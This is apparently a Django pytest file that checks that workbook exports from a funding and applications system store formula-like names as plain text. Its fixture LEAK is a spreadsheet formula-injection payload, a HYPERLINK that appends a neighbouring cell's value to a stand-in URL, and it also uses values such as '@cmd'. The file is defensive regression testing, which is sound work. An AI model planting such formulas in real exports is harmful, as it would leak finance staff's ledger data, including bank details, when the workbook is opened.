"""SPEC.md "Exports": every text cell of every workbook is text. A value starting with = + - @ or a control
character never becomes a formula (issue 15, finding 1: a unit named ``=HYPERLINK(…)`` became a live link
beside the bank-account column of finance's ledger)."""

from __future__ import annotations

import io

import pytest
from django.urls import reverse
from openpyxl import Workbook, load_workbook

from applications.models import Application
from applications.workflow import State
from qinshui_station.documents.workbooks import row, text_cell
from tests.applications import factories as af
from tests.funding.factories import disbursed_station

pytestmark = pytest.mark.django_db
LEAK = '=HYPERLINK("http://127.0.0.1:9/?leak="&F2,"点击核对")'


def _cells(response):
    assert response.status_code == 200
    workbook = load_workbook(io.BytesIO(b"".join(response.streaming_content)))
    return workbook


def _find(workbook, text):
    return [cell for sheet in workbook.worksheets for line in sheet.iter_rows() for cell in line
            if cell.value == text]


def test_text_cells_are_strings_whatever_they_start_with():
    workbook = Workbook(write_only=True)
    sheet = workbook.create_sheet("x")
    sheet.append(row(sheet, ["=1+2*3", "+1", "-1", "@SUM(A1)", "\x01=1", "plain", 7]))
    sheet.append([text_cell(sheet, "=A1")])
    spool = io.BytesIO()
    workbook.save(spool)
    spool.seek(0)
    cells = list(load_workbook(spool).active.iter_rows())
    assert [(c.value, c.data_type, c.quotePrefix) for c in cells[0]] == [
        ("=1+2*3", "s", True), ("+1", "s", True), ("-1", "s", True), ("@SUM(A1)", "s", True), ("=1", "s", True),
        ("plain", "s", False), (7, "n", False)]
    assert (cells[1][0].value, cells[1][0].data_type) == ("=A1", "s")


def test_a_unit_name_that_is_a_formula_is_text_in_the_funding_ledger(client, hr_user, finance_user):
    ws, _grant = disbursed_station(hr=hr_user, finance=finance_user)
    ws.unit.name = LEAK
    ws.unit.save(update_fields=["name"])
    client.force_login(finance_user)
    workbook = _cells(client.get(reverse("funding:ledger_export")))
    found = _find(workbook, LEAK)
    assert len(found) == 1 and found[0].data_type == "s" and found[0].quotePrefix is True
    assert not [c for s in workbook.worksheets for line in s.iter_rows() for c in line if c.data_type == "f"]


def test_unit_and_leader_names_that_are_formulas_are_text_in_the_batch_workbook(client, hr_user):
    app = af.application_in(State.SUBMITTED)
    Application.objects.filter(pk=app.pk).update(unit_name="=1+2*3", leader_name="@cmd", occupation="-2+3")
    client.force_login(hr_user)
    workbook = _cells(client.get(reverse("applications:batch_xlsx", args=[app.batch.pk])))
    for text in ("=1+2*3", "@cmd", "-2+3"):
        found = _find(workbook, text)
        assert len(found) == 1 and found[0].data_type == "s", text
    assert not [c for s in workbook.worksheets for line in s.iter_rows() for c in line if c.data_type == "f"]


def test_a_control_character_in_a_name_does_not_break_the_export(client, hr_user, finance_user):
    ws, _grant = disbursed_station(hr=hr_user, finance=finance_user)
    ws.name = "沁水\x01技师工作站"
    ws.save(update_fields=["name"])
    client.force_login(finance_user)
    workbook = _cells(client.get(reverse("funding:ledger_export")))
    assert len(_find(workbook, "沁水技师工作站")) == 2  # the ledger sheet and the tranche sheet
